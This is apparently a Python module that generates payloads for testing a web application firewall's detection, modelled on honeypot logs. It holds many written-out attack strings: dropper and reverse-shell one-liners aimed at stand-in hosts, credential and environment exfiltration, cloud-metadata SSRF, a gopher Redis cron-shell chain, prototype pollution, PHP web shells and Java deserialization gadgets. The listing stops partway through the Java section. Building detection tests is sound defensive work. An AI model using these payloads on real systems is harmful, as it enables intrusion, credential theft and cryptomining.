"""Blind set "hundredsixtysixth": generic injection (Node.js, SSRF, prototype pollution, Ruby, Perl, PHP data:),
Java and server-side template injection the way honeypots capture them, with benign requests that carry the same
words innocently.

The angle: honeypot captures and web-server logs, recalled from memory. Opportunistic attackers and
mass-exploitation botnets spray the same one-liners at every host: droppers that fetch a cryptominer or a
Mirai-style bot into /tmp and run it, web-shell uploads and the first commands typed into them, grabs of
/etc/passwd, cloud credentials and .env files, blind probes that only call back to an out-of-band DNS or LDAP
host, and the exact payloads of the worm campaigns (Log4Shell, Struts, Spring4Shell, Confluence, WebLogic,
Solr, fastjson). Around them the noise a log shows: odd encodings, doubled parameters, the payload glued to a
legitimate-looking value. Each group of payloads carries a comment naming its family and its target
(interpreter, shell, cloud metadata service, internal service, product, template engine).

Families (one sub-family per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML),
    class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks,
    ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Whole documents go where the product reads them: JSON gadgets
and pollution objects as the JSON body, XMLDecoder/XStream/SOAP documents as the XML body, SnakeYAML and Ruby
YAML as a YAML body, the Struts Content-Type and Spring Cloud Function routing header in those headers, query
strings captured whole (doubled parameters, Spring4Shell, Solr, EJS settings) as raw `name=value` pairs, web
shells as uploads. Raw Java serialization bytes are sent as bytes and never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, honeypot
and web-server logs as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import urllib.parse
from collections.abc import Iterator, Sequence
from typing import Any

from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from .blind_placements import FORM, BlindSet, Put, Record, request
from .records import print_records

NAME = "hundredsixtysixth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
XB = ("xml", "rs-xml")
YB = ("yaml-body", "rs-yaml-body")
UP = ("multipart-filename", "rs-multipart-filename")

# payloads that are a captured query string or form body themselves (`name=value&...`), sent unquoted
RAW: set[str] = set()


def kv(payload: str, real: str = "query", rs: str = "rs-query") -> tuple[str, str, str]:
    """A whole captured `name=value` string, sent as written (already percent-encoded where the bot encoded)."""
    RAW.add(payload)
    return payload, real, rs


# the droppers' hosts and the out-of-band callback zone (documentation addresses, a reserved name)
C2A, C2B, C2C, C2D = "203.0.113.66", "198.51.100.23", "192.0.2.147", "203.0.113.5"
OOB = "oast.example"


def b64(data: str | bytes) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def _desc(name: str) -> bytes:
    raw = name.encode()
    suid = hashlib.sha256(raw).digest()[:8]
    return b"\x72" + len(raw).to_bytes(2, "big") + raw + suid + b"\x02\x00\x00\x78\x70"


def jser(classes: Sequence[str], *strings: str) -> bytes:
    """A Java serialization stream (magic ac ed 00 05): one object per class of the chain, then its strings."""
    out = b"\xac\xed\x00\x05"
    for name in classes:
        out += b"\x73" + _desc(name)
    for s in strings:
        out += b"\x74" + len(s.encode()).to_bytes(2, "big") + s.encode()
    return out


def latin(data: bytes) -> str:
    return data.decode("latin-1")


def pct(data: bytes) -> str:
    return "".join(f"%{c:02X}" for c in data)


def bash_b64(cmd: str) -> str:
    """The ysoserial/JNDI-exploit wrapper that survives Runtime.exec's tokenizer."""
    return "bash -c {echo," + b64(cmd) + "}|{base64,-d}|{bash,-i}"


def shiro(data: bytes) -> str:
    """An Apache Shiro rememberMe cookie: IV + AES-128-CBC(PKCS#7) under the default key, base64."""
    key = base64.b64decode("kPH+bIxk5D2deZiIxcaaaA==")
    iv = hashlib.sha256(data).digest()[:16]
    padder = padding.PKCS7(128).padder()
    plain = padder.update(data) + padder.finalize()
    enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    return b64(iv + enc.update(plain) + enc.finalize())


REVSH = f"bash -i >& /dev/tcp/{C2D}/4444 0>&1"
TEMPLATES = "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"
CC = "org.apache.commons.collections"

# ================================================================================================================
# generic
# ================================================================================================================
# nodejs-injection: strings that reach eval(), new Function(), vm or a node-serialize cookie (target: Node.js)
NODE_INJ: list[Entry] = [
    # Mirai-style loader sprayed at anything that might be an eval(): fetch the bot for this arch, run it
    f"require('child_process').exec('cd /tmp; wget http://{C2A}/bins/x86_64 -O .x; chmod 777 .x; ./.x node.eval')",
    f"process.mainModule.require('child_process').execSync('curl -fsSL http://{C2B}/ldr.sh | sh')",
    "global.process.mainModule.constructor._load('child_process').execSync('id').toString()",
    f"require('child_process').spawn('/bin/sh',['-c','nc {C2D} 4444 -e /bin/sh'])",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('cat /etc/passwd')",
    # node-serialize unserialize() (CVE-2017-5941): the IIFE marker, bare, in a JSON profile, base64 in a cookie
    f"_$$ND_FUNC$$_function(){{require('child_process').exec('curl http://{C2A}/n.sh|bash')}}()",
    ('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\',function(e,o){console.log(o)})}()",'
     '"country":"US","city":"NY"}', *JB),
    (b64('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'ping -c 1 nd.' + OOB + '\')}()"}'),
     "cookie", "rs-cookie"),
    # eval() of a base64 blob, the way obfuscating kits wrap the same dropper
    "eval(Buffer.from('" + b64(f"require('child_process').exec('wget -qO- http://{C2C}/s|sh')") +
    "','base64').toString())",
    "new Function(\"return process.mainModule.require('fs').readFileSync('/root/.aws/credentials','utf8')\")()",
    "require('vm').runInNewContext(\"this.constructor.constructor('return process')().mainModule"
    ".require('child_process').execSync('id')\")",
    "res.end(require('fs').readdirSync('/').toString())",
    "res.end(require('fs').readFileSync('/proc/self/environ'))",
    # breaking out of a string literal inside server-side eval (the value is concatenated into code)
    "';return JSON.stringify(process.env);//",
    f"1;require('child_process').exec('nslookup `whoami`.nd1.{OOB}')",
    f"');require('child_process').exec('wget -q http://{C2B}/xmrig -O /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi"
    " && /tmp/kdevtmpfsi');//",
    "global.process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],"
    "stdio:[{type:'pipe',readable:true,writable:false}]})",
    f"import('child_process').then(m=>m.execSync('curl -s http://{C2C}/k|sh'))",
    # the reverse-shell IIFE pasted from every cheat sheet
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
    f"var client=new net.Socket();client.connect(4444,'{C2D}',function(){{client.pipe(sh.stdin);"
    "sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})()",
    # vm2 sandbox escape (2023 advisories) posted to code-runner endpoints
    "err={};const handler={getPrototypeOf(target){(function stack(){new Error().stack;stack();})();}};"
    "const proxiedErr=new Proxy(err,handler);try{throw proxiedErr;}catch({constructor:c}){"
    "c.constructor('return process')().mainModule.require('child_process').execSync('touch /tmp/pwned');}",
    "require('child_process').execSync('echo " + b64(REVSH) + "|base64 -d|bash')",
    f"require('http').get('http://{C2A}/c?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))",
    "`${require('child_process').execSync('id')}`",
]

# nodejs-dos: a pattern handed to new RegExp(), allocations and loops handed to eval (target: the Node.js event loop)
NODE_DOS: list[Entry] = [
    # catastrophic backtracking patterns sent to search endpoints that build new RegExp(input)
    "^(a+)+$",
    "(x+x+)+y",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){25}",
    "(\\w+\\s?)*$",
    "((a|aa)+)+b",
    # huge allocations through eval
    "Buffer.alloc(0x7fffffff)",
    "new Array(1e9).fill('A')",
    "'A'.repeat(2**30)",
    "new ArrayBuffer(2**32)",
    "Array.from({length:1e9},()=>[])",
    # the loop that never yields
    "while(true){}",
    "for(;;){}",
    "(function f(){return f()})()",
    "process.kill(process.pid,'SIGKILL')",
    "while(1)require('child_process').fork(__filename)",
    "JSON.parse('['.repeat(1e6)+']'.repeat(1e6))",
    # JSON nesting deep enough to blow the parser's stack, and qs' sparse-array and depth handling
    ("[" * 20000 + "]" * 20000, *JB),
    kv("a[999999999]=x"),
    kv("x" + "[a]" * 500 + "=1"),
]

# ssrf-cloud-metadata: URL fields pointed at the instance metadata service (target: AWS/GCP/Azure/Alibaba/DO/OCI)
SSRF_META: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://instance-data/latest/meta-data/iam/info",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/iam/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/instance/attributes/?recursive=true&alt=json",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://"
    "management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # glued to a legitimate-looking host, and the doubled parameter a proxy resolves last
    "https://images.example.com@169.254.169.254/latest/meta-data/iam/security-credentials/",
    kv("url=https://cdn.example.com/logo.png&url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
]

# ssrf-internal-ip: loopback and private services in every spelling, plus the non-HTTP schemes (target: internal)
SSRF_INT: list[Entry] = [
    "http://127.0.0.1:2375/containers/json",
    "http://localhost:8500/v1/agent/self",
    "http://127.0.0.1:10250/pods",
    "http://2130706433:6379/",
    "http://0x7f.0x0.0x0.0x1/server-status",
    "http://017700000001:8080/manager/html",
    "http://127.1:9200/_cat/indices",
    "http://0/",
    "http://[::]:80/",
    "http://0177.0.0.01:22/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "http://10.0.0.1:8080/actuator/env",
    "http://192.168.0.1/cgi-bin/luci",
    "file:///etc/passwd",
    "file:///proc/self/environ",
    # Redis cron write through gopher, the classic SSRF-to-shell chain
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A"
    "%2456%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/203.0.113.5/4444%200%3E%261"
    "%0A%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A/var/spool/"
    "cron/%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A",
    "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cr%40example.com%3E%0D%0A",
    "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/spool/cron/",
    "dict://127.0.0.1:11211/stat",
    "http://localhost%23@images.example.com/",
    kv("webhook=https://hooks.example.com/notify&webhook=http://127.0.0.1:2375/version"),
]

# javascript-prototype-pollution: __proto__ and constructor.prototype in a query string or a JSON body
# (target: Node.js qs/lodash/merge users, Express, client-side jQuery gadgets)
POLLUTION: list[Entry] = [
    kv("__proto__[isAdmin]=1"),
    kv("__proto__.polluted=yes"),
    kv("constructor[prototype][polluted]=1"),
    kv("a[__proto__][admin]=true"),
    kv("__proto__[status]=510"),
    kv("__proto__[json spaces]=10"),
    kv("__proto__[exposedHeaders]=X-Polluted"),
    kv("constructor.prototype.shell=/proc/self/exe"),
    kv("__pro__proto__to__[role]=admin"),
    kv("__proto__[innerHTML]=%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E"),
    kv("q=shoes&__proto__[srcdoc][]=%3Cscript%3Ealert(1)%3C/script%3E", "form", "rs-raw-body"),
    ('{"__proto__":{"isAdmin":true}}', *JB),
    ('{"constructor":{"prototype":{"admin":true}}}', *JB),
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}', *JB),
    ('{"__proto__":{"env":{"NODE_DEBUG":"require(\'child_process\').execSync(\'curl http://' + C2A +
     '/pp.sh|sh\')//","NODE_OPTIONS":"--require /proc/self/environ"}}}', *JB),
    ('{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'wget -qO- http://' + C2B +
     '/b|sh\')"]}}', *JB),
    ('{"__proto__":{"sourceURL":"\\u000areturn e=>{return global.process.mainModule.require(\'child_process\')'
     '.execSync(\'id\')}\\u000a//"}}', *JB),
    ('{"a":{"constructor":{"prototype":{"polluted":"yes"}}}}', *JB),
    ('{"\\u005f_proto__":{"admin":1}}', *JB),
    ('{"user":{"name":"bob","__proto__":{"role":"admin"}}}', *JB),
]

# ruby-injection: eval, system, backticks, Kernel#open pipes, ERB and YAML.load (target: Ruby / Rails)
RUBY: list[Entry] = [
    "#{`id`}",
    f"#{{%x(curl -s http://{C2A}/r.sh|sh)}}",
    f"`wget -q -O- http://{C2B}/x|sh`",
    "system('cat /etc/passwd')",
    "Kernel.exec('/bin/sh -i')",
    # Kernel#open on a user value: a leading pipe runs the rest
    f"|curl http://{C2B}/rb.sh|sh",
    "|id",
    f"|nslookup $(whoami).rb.{OOB}",
    "IO.popen(['id']).read",
    "require 'open3';Open3.popen3('uname -a'){|i,o,e,t| puts o.read}",
    "eval(Base64.decode64('" + b64("system('id')") + "'))",
    f"Process.spawn('nc -e /bin/sh {C2D} 4444')",
    "instance_eval('system(%q(id))')",
    "send(:system,'id')",
    "Object.const_get('Kernel').send(:system,'whoami')",
    "File.read('/proc/self/environ')",
    "Dir.glob('/home/*/.ssh/*').map{|f| File.read(f)}",
    "ERB.new(\"<%= `id` %>\").result",
    f"ruby -rsocket -e 'c=TCPSocket.new(\"{C2D}\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){{|io|c.print io.read}}"
    "end'",
    # Psych YAML.load of the universal gadget chain (RubyGems), as a YAML body
    ("--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n"
     "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n"
     "  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n"
     "               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
     "           git_set: id\n       method_id: :resolve\n", *YB),
    # Rails XML params with type="yaml" (CVE-2013-0156), the 2013 mass scan
    ('<?xml version="1.0" encoding="UTF-8"?><user><name type="yaml">--- !ruby/hash:ActionController::Routing::'
     "RouteSet::NamedRouteCollection\n? ! 'foo; system(\"wget http://" + C2A + "/r -O /tmp/r; sh /tmp/r\")"
     "; @executed = true; __END__\n'\n: !ruby/struct\n  defaults:\n    :action: create\n</name></user>", *XB),
]

# perl-injection: two-argument open pipes, system, eval, qx and string interpolation (target: Perl CGI)
PERL: list[Entry] = [
    "|id|",
    "|cat /etc/passwd|",
    "cat /etc/passwd|",
    ";system('id');",
    f"`wget http://{C2C}/bot.pl -O /tmp/bot.pl;perl /tmp/bot.pl`",
    f"qx{{curl -s http://{C2A}/p|sh}}",
    "eval{system('uname -a')}",
    "open(F,'|/bin/sh -i');",
    "@{[system 'id']}",
    "${\\ `id`}",
    "exec('/bin/sh')",
    "use MIME::Base64;eval(decode_base64('" + b64("system('id')") + "'))",
    "sysopen(FH,'/etc/shadow',0);print <FH>",
    f"perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{C2D}:4444\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    "perl -e 'print `id`'",
    f"system(\"curl http://{C2B}/pb|perl\")",
    # AWStats configdir (CVE-2005-0116), still in every honeypot's logs
    kv(f"configdir=|echo;echo%20YYY;cd%20/tmp;wget%20{C2A}/x.pl;perl%20x.pl;echo%20YYY;echo|"),
    kv("pluginmode=:system(\"id\");"),
    # Movable Type XML-RPC handler_to_coderef (CVE-2021-20837): base64 of a backticked command
    ('<?xml version="1.0" encoding="UTF-8"?><methodCall><methodName>mt.handler_to_coderef</methodName><params>'
     "<param><value><base64>" + b64("`wget http://" + C2A + "/mt -O- | sh`") + "</base64></value></param>"
     "</params></methodCall>", *XB),
    f"open(my $f,\"-|\",\"curl http://{C2C}/x\");",
]

# php-data-scheme: data: URIs handed to include()/file_get_contents() (target: PHP with allow_url_include)
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + b64("<?php system($_GET['cmd']); ?>"),
    "data:text/plain,<?php phpinfo();?>",
    f"data://text/plain,<?php system('curl -s http://{C2A}/p.sh|sh');?>",
    "data:;base64," + b64("<?php echo shell_exec('id'); ?>"),
    "data://text/plain,<?=`$_GET[0]`?>",
    "data://text/plain;base64," + b64(f"<?php file_put_contents('shell.php',file_get_contents('http://{C2B}/s.txt'));"
                                     "?>"),
    "DATA://TeXt/PlAiN;BaSe64," + b64("<?php passthru('uname -a');?>"),
    "data://image/jpeg;base64," + b64("GIF89a<?php eval($_POST['x']);?>"),
    "data:text/plain;charset=utf-8;base64," + b64("<?php @eval($_REQUEST['pass']);?>"),
    "php://filter/convert.base64-decode/resource=data://plain/text," + b64("<?php system('id');?>"),
    "data%3A%2F%2Ftext%2Fplain%3Bbase64%2C" + b64("<?php phpinfo(); ?>"),
    "data://text/plain;base64," + b64(f"<?php exec('wget http://{C2C}/mips -O /tmp/m;chmod +x /tmp/m;/tmp/m');?>"),
    "data:,<?php readfile('/etc/passwd');?>",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCJpZCIpOyA/Pg%3D%3D",
    kv("page=data://text/plain;base64," + b64("<?php system('id');?>").replace("=", "%3D")),
    kv("file=home&file=data:text/plain,%3C?php%20system(%27cat%20/etc/passwd%27);?%3E"),
    kv("lang=../../data://text/plain;base64," + b64("<?php phpinfo();?>").replace("=", "%3D"), "form",
       "rs-raw-body"),
    "data://text/plain;base64," + b64("<?php $s=fsockopen('" + C2D + "',4444);exec('/bin/sh -i <&3 >&3 2>&3');?>"),
]

# ================================================================================================================
# java
# ================================================================================================================
# java-class-names: the classes every Java RCE payload names, in the expression, script and console forms bots
# send them (target: a JVM behind an expression evaluator, a script console or a reflective lookup)
JAVA_NAMES: list[Entry] = [
    f"java.lang.Runtime.getRuntime().exec(\"curl -s http://{C2A}/j.sh -o /tmp/j.sh\")",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"id > /tmp/.o\"})",
    "new java.lang.ProcessBuilder(new String[]{\"cat\",\"/etc/passwd\"}).start()",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(\"load('http://" + C2B + "/a.js')\")",
    "java.lang.System.getenv()",
    "java.lang.Thread.sleep(15000)",
    "new java.io.FileInputStream(\"/etc/shadow\")",
    "new java.net.Socket(\"" + C2D + "\",4444)",
    "java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class)",
    "Class.forName(\"sun.misc.Unsafe\").getDeclaredField(\"theUnsafe\")",
    "java.lang.reflect.Method m=Runtime.class.getMethod(\"getRuntime\");m.invoke(null)",
    "javax.naming.InitialContext().lookup(\"ldap://" + C2A + ":1389/Exploit\")",
    "java.lang.Runtime@getRuntime().exec('whoami')",
    "@java.lang.System@exit(0)",
    "org.apache.commons.io.IOUtils.toString(java.lang.Runtime.getRuntime().exec(\"ls -la /\").getInputStream())",
]

# java-process-spawn: commands started from a JVM (target: Jenkins/Groovy consoles, H2 aliases, Nashorn, BeanShell)
JAVA_SPAWN: list[Entry] = [
    # Jenkins script console (/script, /scriptText), the first thing a bot tries with default creds
    kv("script=println%20%22id%22.execute().text", "form", "rs-raw-body"),
    f"def proc = \"curl -s http://{C2A}/jk.sh\".execute(); proc.waitFor(); println proc.text",
    "['bash','-c','" + f"wget -q http://{C2B}/kinsing -O /tmp/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing" +
    "'].execute()",
    "println new ProcessBuilder('sh','-c','cat /etc/passwd').redirectErrorStream(true).start().text",
    "Runtime.getRuntime().exec(\"" + bash_b64(f"curl http://{C2C}/l.sh|bash") + "\")",
    "Runtime.getRuntime().exec(\"" + bash_b64(REVSH) + "\")",
    "new ProcessBuilder(\"cmd.exe\",\"/c\",\"powershell -nop -w hidden -c IEX(New-Object Net.WebClient)"
    f".DownloadString('http://{C2A}/a.ps1')\").start()",
    "org.codehaus.groovy.runtime.ProcessGroovyMethods.execute('id')",
    "java.lang.ProcessImpl.start(new String[]{\"id\"},null,null,null,false)",
    "String[] cmd={\"/bin/sh\",\"-c\",\"ping -c 1 `hostname`.js." + OOB + "\"};Runtime.getRuntime().exec(cmd);",
    # H2 console / JDBC URL (CVE-2021-42392, CVE-2022-23221): compile an alias and call it
    "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws java.io.IOException"
    "{Runtime.getRuntime().exec(c);return null;}'\\;CALL EXEC('id')",
    "CREATE ALIAS SHELLEXEC AS $$ String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s ="
    " new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()).useDelimiter(\"\\\\A\"); "
    "return s.hasNext() ? s.next() : \"\"; }$$; CALL SHELLEXEC('id');",
    # Nashorn / BeanShell consoles
    "var p=new java.lang.ProcessBuilder('/bin/sh','-c','id');var r=p.start();"
    "print(new java.util.Scanner(r.getInputStream()).useDelimiter('\\\\A').next());",
    "bsh.Interpreter().eval(\"exec(\\\"id\\\")\")",
    # Nexus Repository EL (CVE-2020-10199) carrying the process spawn
    ('{"name":"internal","online":true,"storage":{"blobStoreName":"default","strictContentTypeValidation":true},'
     '"group":{"memberNames":["$\\\\A{\'\'.getClass().forName(\'java.lang.Runtime\').getMethods()[6].invoke(null)'
     '.exec(\'touch /tmp/nx\')}"]}}', *JB),
    "new java.lang.ProcessBuilder({'/bin/bash','-c','" + f"curl {C2B}/w.sh|sh" + "'}).start()",
]

URLDNS = jser(["java.util.HashMap", "java.net.URL"], f"http://urldns.{OOB}")
JRMP = jser(["java.rmi.server.RemoteObjectInvocationHandler", "sun.rmi.server.UnicastRef"], f"{C2D}:1099")
JBOSS = jser(["org.jboss.invocation.MarshalledInvocation", "org.jboss.invocation.MarshalledValue"],
             "jboss:service=invoker,type=http")
JENKINS = jser(["hudson.remoting.Capability"])
CB1 = jser(["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator", TEMPLATES],
           "outputProperties", "touch /tmp/cb1")

# java-serialization: the stream magic ac ed 00 05 raw, hex, percent-encoded and base64 rO0AB (target: any
# endpoint that calls ObjectInputStream.readObject: JBoss invokers, Jenkins CLI, JSF ViewState, WebLogic)
JAVA_SER: list[Entry] = [
    latin(URLDNS),
    latin(JBOSS),
    latin(CB1),
    URLDNS.hex(),
    JRMP.hex().upper(),
    pct(jser(["java.util.HashSet", "java.net.URL"], f"http://pct.{OOB}")),
    kv("data=" + pct(JRMP), "form", "rs-raw-body"),
    b64(URLDNS),
    b64(JRMP),
    b64(JBOSS),
    base64.urlsafe_b64encode(CB1).decode(),
    "<===[JENKINS REMOTING CAPACITY]===>" + b64(JENKINS),
    kv("javax.faces.ViewState=" + urllib.parse.quote(b64(gzip.compress(CB1, mtime=0)), safe=""), "form",
       "rs-raw-body"),
    base64.encodebytes(jser([CC + ".map.LazyMap", "java.net.URL"], f"http://mime.{OOB}")).decode(),
    b64(b64(URLDNS)),
    "t3 12.2.1\nAS:255\nHL:19\nMS:10000000\nPU:t3://" + C2D + ":7001\n\n",
    ("{\"session\":\"" + b64(jser(["java.util.HashMap", "java.net.URL"], f"http://json.{OOB}")) + "\"}", *JB),
]

# deserialization-gadgets: the ysoserial chains as the bots ship them (target: commons-collections, Spring,
# Groovy, JDK 7u21, C3P0, ROME, Hibernate, BeanUtils on the classpath)
CC1 = ["sun.reflect.annotation.AnnotationInvocationHandler", CC + ".map.LazyMap",
       CC + ".functors.ChainedTransformer", CC + ".functors.ConstantTransformer", CC + ".functors.InvokerTransformer"]
GADGETS: list[Entry] = [
    b64(jser(CC1, "getRuntime", "exec", f"wget http://{C2A}/x86 -O /tmp/x86;chmod +x /tmp/x86;/tmp/x86")),
    latin(jser(CC1, "getRuntime", "exec", "id")),
    b64(jser(["java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
              "org.apache.commons.collections4.functors.InvokerTransformer", TEMPLATES], "newTransformer",
             bash_b64(f"curl {C2B}/c2|sh"))),
    b64(jser(["javax.management.BadAttributeValueExpException", CC + ".keyvalue.TiedMapEntry", CC + ".map.LazyMap",
              CC + ".functors.ChainedTransformer"], "exec", f"nslookup cc5.{OOB}")),
    b64(jser(["java.util.HashSet", CC + ".keyvalue.TiedMapEntry", CC + ".map.LazyMap",
              CC + ".functors.InvokerTransformer"], "exec", "touch /tmp/cc6")),
    b64(jser(["org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
              "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
              TEMPLATES], "newTransformer", f"curl http://{C2C}/s1|sh")),
    b64(jser(["org.springframework.aop.framework.JdkDynamicAopProxy",
              "org.springframework.aop.target.SingletonTargetSource", TEMPLATES], "getOutputProperties")),
    b64(jser(["sun.reflect.annotation.AnnotationInvocationHandler", "org.codehaus.groovy.runtime.ConvertedClosure",
              "org.codehaus.groovy.runtime.MethodClosure"], "entrySet", "execute", "id")),
    latin(jser(["java.util.LinkedHashSet", TEMPLATES, "sun.reflect.annotation.AnnotationInvocationHandler",
                "javax.xml.transform.Templates"], "f5a5a608")),
    b64(jser(["com.mchange.v2.c3p0.PoolBackedDataSource", "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
              "com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", "javax.naming.Reference"],
             "Exploit", f"http://{C2A}:8000/")),
    ('{"@type":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":'
     '"HexAsciiSerializedMap:' + jser(CC1, "exec", "id").hex() + ';"}', *JB),
    b64(jser(["java.util.HashMap", "com.sun.syndication.feed.impl.ObjectBean",
              "com.sun.syndication.feed.impl.EqualsBean", "com.sun.syndication.feed.impl.ToStringBean", TEMPLATES],
             f"curl {C2B}/rome|bash")),
    b64(jser(["java.util.HashMap", "org.hibernate.engine.spi.TypedValue", "org.hibernate.type.ComponentType",
              "org.hibernate.tuple.component.PojoComponentTuplizer",
              "org.hibernate.property.BasicPropertyAccessor$BasicGetter", TEMPLATES], "outputProperties")),
    b64(jser(["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator", TEMPLATES],
             "outputProperties", f"wget -qO- {C2C}/cb|sh")),
    b64(jser(["java.util.PriorityQueue", "bsh.XThis$Handler", "bsh.NameSpace"],
             "compare(Object foo, Object bar) {new java.lang.ProcessBuilder(new String[]{\"id\"}).start();"
             "return new Integer(1);}")),
    b64(jser(["javax.management.BadAttributeValueExpException", "org.mozilla.javascript.NativeError",
              "org.mozilla.javascript.tools.shell.Environment", "org.mozilla.javascript.MemberBox"], "enter")),
    b64(jser(["org.apache.commons.fileupload.disk.DiskFileItem"], "/var/www/html/s.jsp")),
    b64(jser(["org.python.core.PyFunction", "org.python.core.PyBytecode"],
             "import os;os.system('id')")),
    b64(jser(["clojure.inspector.proxy$javax.swing.table.AbstractTableModel$ff19274a", "clojure.core$comp$fn__4727"],
             "(use '[clojure.java.shell :only [sh]]) (sh \"id\")")),
    # Apache Shiro rememberMe (SHIRO-550): the chain AES-CBC encrypted with the framework's default key
    kv("rememberMe=" + shiro(CB1), "cookie", "rs-cookie"),
